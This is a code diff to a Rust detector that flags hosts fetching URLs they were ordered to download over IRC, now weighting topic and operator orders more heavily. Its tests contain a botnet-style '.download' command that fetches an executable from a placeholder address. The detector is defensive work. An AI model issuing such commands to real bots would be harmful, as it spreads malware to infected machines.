@@ -3,7 +3,7 @@
 //! A home host hears an address or a URL on IRC, and within ten minutes, or later, it connects there. Bro's policy for
 //! bots remembered URLs of topics for a week. Where the URL came with an order it is an egg; where it names a program
 //! it may be; any other link is what people post and others click, and weighs next to nothing. Hosts it was at before
-//! do not count.
+//! do not count, unless a topic or an operator sends it there: others may name the site that everybody reads.
 
 use std::collections::VecDeque;
 use std::hash::BuildHasher as _;
@@ -14,14 +14,12 @@ use wiretale_protocol::{Address, Direction, Timestamp};
 use crate::bounded::Bounded;
 use crate::dialect::{Verb, address, url};
 use crate::heard::{Heard, Spoken};
-use crate::pairs::Slots;
 use crate::text::{linked_words, shown};
 use crate::{Detector, Ends, Fact, Findings, Hears, Scene};
 
 /// Links heard, by home host.
 pub(super) struct Egg {
     hosts: Bounded<Address, Mentions>,
-    visited: Slots<bool>,
     // Bytes that mentions take, and hosts that heard some, those that went included: so much each has on average.
     bytes: usize,
     heard: usize,
@@ -45,12 +43,14 @@ struct Mention {
     channel: String,
     flow: String,
     strength: f64,
+    // A topic's order, or an operator's.
+    in_charge: bool,
     fetched: bool,
 }
 
 impl Default for Egg {
     fn default() -> Self {
-        Self { hosts: Bounded::new(1 << 13), visited: Slots::default(), bytes: 0, heard: 0 }
+        Self { hosts: Bounded::new(1 << 13), bytes: 0, heard: 0 }
     }
 }
 
@@ -60,7 +60,7 @@ impl Detector for Egg {
     }
 
     fn memory(&self) -> usize {
-        self.hosts.memory(self.bytes / self.heard.max(1)) + self.visited.memory(0)
+        self.hosts.memory(self.bytes / self.heard.max(1))
     }
 
     fn hears(&self) -> Hears {
@@ -88,13 +88,14 @@ impl Egg {
     fn mentioned(&mut self, scene: &Scene<'_>, said: &Heard<'_>, spoken: &Spoken<'_>, first: usize) {
         let Spoken { from, place, .. } = *spoken;
         let order = said.order.is_some_and(|order| order.kind == Verb::Fetch && order.fits > 0 && !order.quoted);
+        let in_charge = order && spoken.is_in_charge(scene.session());
         let heard = self.hosts.entry(scene.moment.flow.client.address);
         for word in linked_words(said.text, first, WORDS) {
             // The same link again, through another of the host's connections: the first one stands, unless it came
-            // without an order, and now there is one.
+            // without an order, and now there is one, or a weightier one.
             let number = scene.hash.hash_one(word);
-            let known = heard.known(number, word).map(|at| heard.all[at].strength);
-            if known.is_some_and(|strength| !order || strength == 1.0) {
+            let known = heard.known(number, word).map(|at| &heard.all[at]);
+            if known.is_some_and(|known| !order || known.strength == 1.0 && known.in_charge >= in_charge) {
                 continue;
             }
             let Some((host, path)) = url(word) else { continue };
@@ -113,6 +114,7 @@ impl Egg {
                 channel: scene.channel_tie(place),
                 flow: scene.moment.flow.id.to_string(),
                 strength,
+                in_charge,
                 fetched: false,
             };
             self.heard += usize::from(heard.all.is_empty());
@@ -124,15 +126,13 @@ impl Egg {
     fn fetched(&mut self, scene: &Scene<'_>, findings: &mut Findings) {
         let (at, flow) = (scene.moment.at, scene.moment.flow);
         let (host, server) = (flow.client.address, flow.server.address);
-        let Some(pair) = scene.facts.pair else { return };
-        let before = std::mem::replace(self.visited.entry(pair), true);
         let Some(heard) = self.hosts.get_mut(&host) else { return };
         let name = scene.names.of(server).map(<[u8]>::to_ascii_lowercase);
         let is = |mention: &&mut Mention| {
             // What came to nothing is told of when it is over: it may have begun before that was said.
             let late = at < mention.at || at.since(mention.at).as_secs() > WEEK;
             let there = mention.address == Some(server.to_ip()) || name.as_ref() == Some(&mention.host);
-            there && !late && !mention.fetched && (!before || mention.strength == 1.0)
+            there && !late && !mention.fetched && (!scene.facts.returns || mention.in_charge)
         };
         let Some(mention) = heard.all.iter_mut().find(is) else { return };
         mention.fetched = true;
@@ -197,7 +197,8 @@ const PROGRAMS: &[&[u8]] =
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::testing::{HOST, Play};
+    use crate::testing::{HOST, Play, Server};
+    use wiretale_irc::{Event, Wire};
     use wiretale_protocol::Observer;
 
     fn heard(text: &str) -> Play {
@@ -220,16 +221,37 @@ mod tests {
         assert!(play.evidence()[0].strength <= 0.1);
     }
 
+    const ORDER: &str = ".download http://198.51.100.140/upd.exe c:\\upd.exe 1";
+
+    fn topic(play: &mut Play, at: f64) {
+        let [channel, setter, text] = ["#y", "0rd3r!~o@198.51.100.9", ORDER].map(|text| Wire(text.as_bytes()));
+        play.irc(0, at, Server, Event::Topic { channel, text, setter, time: None, changed: false });
+    }
+
     #[test]
     fn who_orders_is_told_and_not_who_named_it_before() {
         let mut play = heard("look http://198.51.100.140/upd.exe");
         play.open(20.0, HOST, [198, 51, 100, 140], 80);
-        play.heard(0, 3000.0, "0rd3r", "#y", ".download http://198.51.100.140/upd.exe c:\\upd.exe 1");
+        topic(&mut play, 3000.0);
         play.heard(0, 3001.0, "friend", "#x", "look http://198.51.100.140/upd.exe");
         play.open(3002.0, HOST, [198, 51, 100, 140], 80);
         let row = &play.evidence()[1];
         assert_eq!((play.rows(), row.strength), (vec!["D31.egg"; 2], 1.0));
         assert!(row.text.contains("2 s after 0rd3r") && row.ties[0].ends_with("#y"), "{} {:?}", row.text, row.ties);
+    }
+
+    #[test]
+    fn a_stranger_s_order_does_not_make_an_old_visit_an_egg() {
+        let mut play = Play::of(Egg::default());
+        let flow = play.session(0.0, HOST, 6667, "b", "b");
+        play.open(1.0, HOST, [198, 51, 100, 140], 80);
+        play.heard(flow, 10.0, "tr0ll", "b", ORDER);
+        play.heard(flow, 10.0, "tr0ll", "#x", ORDER);
+        play.open(11.0, HOST, [198, 51, 100, 140], 80);
+        assert!(play.rows().is_empty());
+        topic(&mut play, 12.0);
+        play.open(13.0, HOST, [198, 51, 100, 140], 80);
+        assert_eq!(play.rows(), ["D31.egg"]);
     }
 
     #[test]
